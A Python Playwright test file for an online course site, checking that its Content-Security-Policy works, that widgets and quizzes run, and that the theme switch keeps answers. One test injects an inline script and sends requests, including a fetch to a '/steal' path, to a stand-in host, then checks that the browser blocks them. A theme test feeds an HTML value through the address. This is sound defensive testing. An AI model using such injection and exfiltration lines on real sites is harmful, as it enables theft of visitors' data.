"""The course in a real browser under its Content-Security-Policy: pages render and widgets work with no CSP
complaint, an injected inline script and a request to another host are blocked by the browser, and the
light/dark switch happens in the page (no reload, so answers stay) from an allow-list.

Standards: W3C Content Security Policy Level 3 (the browser reports each blocked load as a
``securitypolicyviolation`` event), WCAG 2.2 (1.4.3 contrast holds in both themes: test_accessibility.py),
NNEDV tech safety (nothing stored in the browser: the theme travels in the address only).
"""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.browser

CSP_WORDS = ("Content Security Policy", "Content-Security-Policy", "Refused to")


def csp_complaints(page) -> list[str]:
    return [e for e in page.console_errors if any(w in e for w in CSP_WORDS)]


@pytest.mark.parametrize("name", ["index.ipynb", "02-stress-relief-cycle.ipynb", "04-signs-and-reflection.ipynb"])
def test_pages_render_and_widgets_work_under_the_csp(course_page, name):
    page = course_page(name)
    assert page.locator(".course-nav, nav").count() > 0
    if name != "index.ipynb":
        page.wait_for_selector(".jupyter-widgets", timeout=120_000)
    if name.startswith("04"):
        page.get_by_role("radio").first.check(timeout=60_000)
    if name.startswith("02"):  # a learner's slider value reaches the kernel (it is tagged browser=True)
        slider = page.get_by_label("How bad it was feared to get")
        slider.focus(timeout=60_000)
        page.keyboard.press("Home")
        page.wait_for_function(
            "() => [...document.querySelectorAll('.course-explorer-summary')].some("
            "e => e.innerText.includes('There is no relief signal'))", timeout=60_000)
    page.wait_for_load_state("networkidle")
    assert csp_complaints(page) == []
    assert page.console_errors == [] or all("Unsatisfied version" in e for e in page.console_errors), page.console_errors


def test_a_quiz_answers_under_the_csp(course_page):
    page = course_page("01-what-it-is.ipynb")
    question = page.locator(".course-quiz-question").first
    question.locator("fieldset.course-choice label").first.click(timeout=120_000)
    question.get_by_role("button", name="Check answer").click(timeout=60_000)
    page.wait_for_function("() => [...document.querySelectorAll('.course-live')].some(e => e.textContent.trim())",
                           timeout=60_000)
    assert csp_complaints(page) == []


def test_an_injected_script_and_an_outside_request_are_blocked(course_page):
    page = course_page("01-what-it-is.ipynb")
    violations = page.evaluate("""async () => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.appendChild(script);
      const img = new Image();
      img.src = 'http://192.0.2.1/pixel.png';
      document.body.appendChild(img);
      try { await fetch('http://192.0.2.1/steal', {mode: 'no-cors'}); } catch (e) { /* blocked */ }
      const frame = document.createElement('iframe');
      frame.src = 'http://192.0.2.1/';
      document.body.appendChild(frame);
      await new Promise(r => setTimeout(r, 1500));
      return {seen, injected: window.__injected === true};
    }""")
    assert violations["injected"] is False
    for directive in ("script-src-elem", "img-src", "connect-src", "frame-src"):
        assert directive in violations["seen"], violations
    assert page.outside_requests == [], "a request left for another host"


def test_the_theme_switch_happens_in_the_page_and_keeps_answers(course_page):
    page = course_page("01-what-it-is.ipynb")
    page.evaluate("window.__samePage = true")
    question = page.locator(".course-quiz-question").first
    question.locator("fieldset.course-choice input").first.check(timeout=120_000)
    page.get_by_role("button", name="Dark theme").click(timeout=60_000)
    page.wait_for_function("() => document.body.dataset.jpThemeLight === 'false'", timeout=30_000)
    assert page.evaluate("window.__samePage") is True, "the page reloaded"
    assert question.locator("fieldset.course-choice input").first.is_checked()
    assert "theme=dark" in page.url
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert sum(int(c) for c in background[background.index("(") + 1:-1].split(",")[:3]) < 3 * 80, background
    page.get_by_role("button", name="Light theme").click(timeout=60_000)
    page.wait_for_function("() => document.body.dataset.jpThemeLight === 'true'", timeout=30_000)
    assert page.get_by_role("button", name="Dark theme").get_attribute("aria-pressed") == "false"


@pytest.mark.parametrize("value", ["purple", "JupyterLab Dark", "<b>x</b>"])
def test_an_unknown_theme_falls_back_quietly(course_page, value):
    from urllib.parse import quote

    page = course_page("00-start-here.ipynb", query=f"?theme={quote(value)}")
    assert page.locator(".jp-Dialog").count() == 0
    assert page.evaluate("document.body.dataset.jpThemeLight") == "true"
    assert csp_complaints(page) == []


def test_a_learner_can_walk_through_the_course_without_hitting_a_cap(course_page):
    """Each page ends its kernel when the visitor moves on, so one browser never nears the per-address cap."""
    page = course_page("00-start-here.ipynb")
    visited = 1
    for _ in range(6):
        link = page.locator("nav.course-nav a.course-nav-next").first
        try:
            link.wait_for(timeout=120_000)
        except Exception:  # noqa: BLE001  (the last page has no "next" link)
            break
        link.click(timeout=60_000)
        page.wait_for_load_state("load", timeout=120_000)
        assert "The course is busy" not in page.content()
        visited += 1
    assert visited >= 5


def test_a_built_in_dropdown_reaches_the_kernel(course_page):
    """Dropdowns sync their chosen index, the learner-facing state the guard lets through: the explorer's
    "Example" picker (a built-in ipywidgets Dropdown) changes the chart's summary, which only the kernel writes."""
    page = course_page("02-stress-relief-cycle.ipynb")
    chooser = page.locator(".course-explorer select").first
    chooser.wait_for(timeout=120_000)
    summary = page.locator(".course-explorer-summary").first
    page.wait_for_function("() => document.querySelector('.course-explorer-summary')?.innerText.trim()",
                           timeout=60_000)
    before = summary.inner_text()
    options = chooser.locator("option")
    assert options.count() >= 2
    chooser.select_option(index=1 if chooser.input_value() == options.nth(0).get_attribute("value") else 0)
    page.wait_for_function("([b]) => document.querySelector('.course-explorer-summary').innerText !== b",
                           arg=[before], timeout=60_000)
    assert csp_complaints(page) == []
